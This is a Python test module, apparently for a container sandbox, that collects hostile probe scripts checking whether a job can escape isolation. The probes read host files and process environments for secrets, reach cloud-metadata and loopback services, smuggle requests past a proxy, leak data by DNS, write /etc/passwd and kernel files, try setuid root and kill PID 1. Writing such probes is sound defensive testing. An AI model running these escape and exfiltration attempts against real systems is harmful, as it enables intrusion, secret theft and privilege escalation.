"""Hostile commands: each prints ESCAPED when it got what it wanted, and otherwise what stood in its way.

Placeholders: {canary} a file of the host, {other} another run's checkout, {forge} a repository of the forge, {port} a
server on the host's loopback that nobody named, {named} one that is named, {objects} a folder mounted read-only.
"""

from __future__ import annotations

_REACH = """
import socket
got = []
for address in {addresses}:
    try:
        socket.create_connection(address, timeout=1).close()
        got.append(address)
    except OSError as error:
        last = error
print("ESCAPED " + str(got) if got else last)
"""
_PROXY = """
import socket
proxy = socket.create_connection(("127.0.0.1", 3128), timeout=5)
proxy.sendall({request})
print("answer", answer := proxy.recv(65536).split(b"\\r\\n")[0].decode(errors="replace"))
print("ESCAPED" if " 200" in answer else "denied")
"""
_CALL = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("ESCAPED" if {call} >= 0 else os.strerror(ctypes.get_errno()))
"""

PYTHON: dict[str, str] = {
    "read a file of the host": "print('ESCAPED', open({canary!r}).read())",
    "read it through /proc of other processes": """
import glob
last = None
for root in glob.glob("/proc/[0-9]*/root"):
    try:
        print("ESCAPED", open(root + {canary!r}).read())
    except OSError as error:
        last = error
print(last)
""",
    "read another run's checkout": "import os; print('ESCAPED', os.listdir({other!r}))",
    "read the environment of the flow": """
import glob
got = 0
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        got += b"FLOW_SECRET" in open(path, "rb").read()
    except OSError as error:
        last = error
print("ESCAPED" if got else "no such variable in any process that can be seen")
""",
    "reach the Prefect API on the host's loopback": _REACH.replace(
        "{addresses}", '[("127.0.0.1", {port}), ("localhost", {port}), ("172.17.0.1", {port}), ("192.0.2.2", {port})]'
    ),
    "reach it through the proxy": _PROXY.replace(
        "{request}", 'b"GET http://host.docker.internal:{port}/api HTTP/1.1\\r\\n\\r\\n"'
    ),
    "reach the metadata address": _REACH.replace("{addresses}", '[("169.254.169.254", 80), ("169.254.170.2", 80)]'),
    "reach it through the proxy as a number": _PROXY.replace(
        "{request}", 'b"GET http://2852039166/latest/meta-data HTTP/1.1\\r\\n\\r\\n"'
    ),
    "go round the proxy by address": _REACH.replace("{addresses}", '[("1.1.1.1", 443), ("8.8.8.8", 53)]'),
    "CONNECT to a host that is not named": _PROXY.replace(
        "{request}", 'b"CONNECT example.com:443 HTTP/1.1\\r\\n\\r\\n"'
    ),
    "CONNECT to a port that is not named": _PROXY.replace(
        "{request}", 'b"CONNECT host.docker.internal:22 HTTP/1.1\\r\\n\\r\\n"'
    ),
    "smuggle a request past the proxy with two lengths": _PROXY.replace(
        "{request}",
        'b"POST http://host.docker.internal:{named}/ HTTP/1.1\\r\\nContent-Length: 0\\r\\n'
        "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
        'GET http://host.docker.internal:{port}/ HTTP/1.1\\r\\n\\r\\n"',
    ),
    "name one host in the address and another in the header": """
import socket
proxy = socket.create_connection(("127.0.0.1", 3128), timeout=5)
proxy.sendall(b"GET http://host.docker.internal:{named}/ HTTP/1.1\\r\\nHost: host.docker.internal:{port}\\r\\n\\r\\n")
answer = b""
while chunk := proxy.recv(65536):
    answer += chunk
print("ESCAPED" if b"host.docker.internal:{port}" in answer else "the header was replaced: " + answer[-60:].decode())
""",
    "send data out by DNS": """
import socket
try:
    print("ESCAPED", socket.getaddrinfo("secret.example.com", 53))
except OSError as error:
    print(error)
""",
    "open a raw socket": """
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW)):
    try:
        socket.socket(family, kind, 1)
        print("ESCAPED")
    except OSError as error:
        print(error)
""",
    "find the engine's socket": """
import glob, os, stat
got = []
for folder in ("/run", "/var/run", "/tmp", "/var/lib/docker", "/"):
    for path in glob.glob(folder + "/*") + glob.glob(folder + "/*/*"):
        try:
            if stat.S_ISSOCK(os.stat(path).st_mode) and not path.endswith("/run/jobs/s"):
                got.append(path)
        except OSError:
            pass
print("ESCAPED " + str(got) if got else "there is no socket but the keeper's for launchers")
""",
    "write to the system, to what is read-only and to the kernel": """
import os
for path in ("/etc/passwd", "/usr/bin/python3", "/new", "/opt/delivery/launcher.py", {objects!r} + "/new",
             "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/proc/sysrq-trigger", "/dev/kmsg"):
    try:
        open(path, "ab")
        print("ESCAPED", path)
    except OSError as error:
        print(error)
""",
    "become root by a set-user program": """
import os, shutil, subprocess
shutil.copy("/usr/bin/id", "id"); os.chmod("id", 0o6755)
tried = (["./id", "-u"], ["su", "-c", "id -u"])
got = [subprocess.run(argv, capture_output=True, text=True).stdout for argv in tried]
try:
    os.setuid(0); got.append("0")
except OSError as error:
    print(error)
print("ESCAPED" if any(g.strip() == "0" for g in got) else f"still user {os.getuid()}")
""",
    "trace the keeper": _CALL.replace("{call}", "libc.ptrace(16, 1, 0, 0)"),
    "mount a file system": _CALL.replace("{call}", 'libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)'),
    "make a user namespace": _CALL.replace("{call}", "libc.unshare(0x10000000)"),
    "load a kernel program": _CALL.replace("{call}", "libc.syscall(321, 5, 0, 0)"),
    "make or open a device": """
import os, stat
make = lambda: os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(254, 0))
for act in (make, lambda: open("/dev/vda"), lambda: open("/dev/mem")):
    try:
        act(); print("ESCAPED")
    except OSError as error:
        print(error)
""",
    "link to a file of another mount by a second name": """
import os
for path in ({objects!r} + "/file", {canary!r}, "/etc/passwd"):
    try:
        os.link(path, "second"); print("ESCAPED", path); break
    except OSError as error:
        print(error)
""",
    "read or replace what the keeper keeps": """
import os
for act in (lambda: os.listdir("/run/keeper"), lambda: os.rename("/run/jobs/s", "/run/jobs/t"), lambda: os.kill(1, 9),
            lambda: open("/proc/1/mem", "wb")):
    try:
        act(); print("ESCAPED")
    except OSError as error:
        print(error)
""",
    "push to the forge": """
import os, subprocess
run = lambda *a: subprocess.run(a, capture_output=True, text=True)
run("git", "init", "-q", "x"); os.chdir("x")
run("git", "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x")
for to in ({forge!r}, "file://" + {forge!r}, "http://host.docker.internal:{port}/forge"):
    done = run("git", "push", to, "HEAD:refs/heads/main")
    print("ESCAPED" if not done.returncode else done.stderr.strip().splitlines()[-1])
""",
}
